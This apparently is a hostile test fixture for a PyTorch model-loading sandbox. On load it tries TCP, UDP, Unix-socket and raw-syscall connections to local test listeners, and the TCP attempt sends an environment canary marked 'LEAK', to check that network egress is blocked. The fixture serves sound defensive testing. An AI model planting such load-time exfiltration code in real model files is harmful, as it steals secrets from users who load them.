# Hostile: TCP, UDP, Unix-socket and raw-syscall connections to the test's listeners.
import ctypes, json, os, socket
import torch

TARGETS = {}  # filled in by tests/sandbox

got = []
for attempt in ("tcp", "udp", "unix", "raw"):
    try:
        if attempt == "tcp":
            s = socket.create_connection(("127.0.0.1", TARGETS["tcp_port"]), timeout=2)
            s.sendall(b"LEAK " + os.environ.get("TORCHPORT_TEST_CANARY", "").encode())
        elif attempt == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"LEAK", ("127.0.0.1", TARGETS["udp_port"]))
        elif attempt == "unix":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(TARGETS["unix_path"])
            s.sendall(b"LEAK")
        else:
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.syscall(41, 2, 1, 0)  # socket(AF_INET, SOCK_STREAM, 0)
            if fd >= 0:
                port = TARGETS["tcp_port"]
                addr = (ctypes.c_ubyte * 16)(2, 0, port >> 8, port & 255, 127, 0, 0, 1)
                libc.syscall(42, fd, addr, 16)  # connect
        got.append(attempt + ":ok")
    except OSError as exc:
        got.append(f"{attempt}:{exc.errno}")


class Model(torch.nn.Module):
    def forward(self, x):
        return x + 1


model = Model()
example_args = (torch.ones(2),)
raise RuntimeError("ATTEMPTS " + json.dumps(got))
